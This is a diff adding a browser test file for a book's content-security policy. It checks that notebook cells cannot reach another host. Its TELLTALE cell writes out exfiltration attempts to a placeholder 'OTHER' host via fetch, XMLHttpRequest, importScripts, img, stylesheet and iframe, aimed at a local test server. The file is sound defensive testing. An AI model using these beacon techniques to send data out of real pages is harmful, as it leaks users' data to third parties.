@@ -1,0 +1,137 @@
+"""The book's content-security policy: it works under it, and cells reach no other host."""
+
+import contextlib
+import functools
+import http.server
+import threading
+
+import pytest
+
+from publish import content_policy
+from publish import serve as serve_book
+from tests.web.live.test_live_pages import CHAPTERS, Visit
+
+pytestmark = pytest.mark.browser
+
+# A cell that tries to send its reader's words away in each way that a cell has.
+TELLTALE = """
+import js
+from IPython.display import HTML, display
+
+async def by_fetch():
+    await js.fetch("OTHER/fetch")
+
+async def by_request():
+    request = js.XMLHttpRequest.new()
+    request.open("GET", "OTHER/request", False)
+    request.send()
+
+async def by_script():
+    js.importScripts("OTHER/script")
+
+for way in by_fetch, by_request, by_script:
+    try:
+        await way()
+    except BaseException as error:
+        print(type(error).__name__)
+display(HTML("<img src='OTHER/picture'><link rel=stylesheet href='OTHER/style'>"
+             "<iframe src='OTHER/frame'></iframe>"))
+print("tried")
+"""
+WAYS = {"/fetch", "/request", "/script", "/picture", "/style", "/frame"}
+
+
+@pytest.fixture
+def other_host():
+    """Another host, which answers anyone: (its address, the paths it was asked for)."""
+    asked = set()
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.add(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Type", "text/javascript")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
+
+
+@contextlib.contextmanager
+def served_as_by_make_serve(folder):
+    handler = functools.partial(serve_book.Handler, directory=str(folder))
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}"
+        server.shutdown()
+
+
+def try_to_tell(visit, other_address):
+    visit.open(f"notebooks/{CHAPTERS[0]}.html")
+    visit.go_live()
+    cell = visit.page.eval_on_selector(".cell[id]", "cell => cell.id")
+    visit.write(cell, TELLTALE.replace("OTHER", other_address))
+    assert visit.run(cell) == "done", visit.output(cell)
+    assert "tried" in visit.output(cell)
+    visit.page.wait_for_timeout(1000)
+
+
+def test_cells_reach_no_other_host_from_a_plain_server(
+    browser, book_address, other_host
+):
+    address, asked = other_host
+    context = browser.new_context()
+    visit = Visit(context, book_address)
+    try_to_tell(visit, address)
+    context.close()
+    assert asked == set()
+    assert {refused.split()[0] for refused in visit.refused} >= {"img-src", "frame-src"}
+
+
+def test_cells_reach_no_other_host_from_make_serve(browser, built_book, other_host):
+    address, asked = other_host
+    with served_as_by_make_serve(built_book) as book:
+        context = browser.new_context(service_workers="block")
+        try_to_tell(Visit(context, book), address)
+        context.close()
+    assert asked == set()
+
+
+def test_without_the_policy_they_would(browser, book_address, other_host):
+    address, asked = other_host
+    context = browser.new_context(service_workers="block", bypass_csp=True)
+    try_to_tell(Visit(context, book_address), address)
+    context.close()
+    assert asked >= WAYS
+
+
+def test_jupyterlite_runs_under_what_make_serve_sends(browser, built_book):
+    with served_as_by_make_serve(built_book) as book:
+        context = browser.new_context()
+        visit = Visit(context, book)
+        page = visit.open(f"lite/lab/index.html?path=notebooks/{CHAPTERS[0]}.ipynb")
+        page.wait_for_selector(
+            '.jp-Notebook-ExecutionIndicator[data-status="idle"]', state="attached"
+        )
+        page.click(".jp-CodeCell .jp-InputArea-editor >> nth=0")
+        page.keyboard.press("Shift+Enter")
+        page.wait_for_selector(".jp-CodeCell .jp-InputPrompt >> text=/[0-9]/")
+        context.close()
+    assert visit.refused == []
+
+
+def test_every_page_and_the_headers_file_have_the_policy(built_book):
+    words = content_policy.in_words(content_policy.PAGES)
+    assert words in (built_book / "_headers").read_text()
+    assert "http" not in words
+    for name in ("book/welcome", f"notebooks/{CHAPTERS[0]}", "search"):
+        text = (built_book / f"{name}.html").read_text()
+        # It binds only what comes after it.
+        assert text.index("Content-Security-Policy") < text.index("<script")
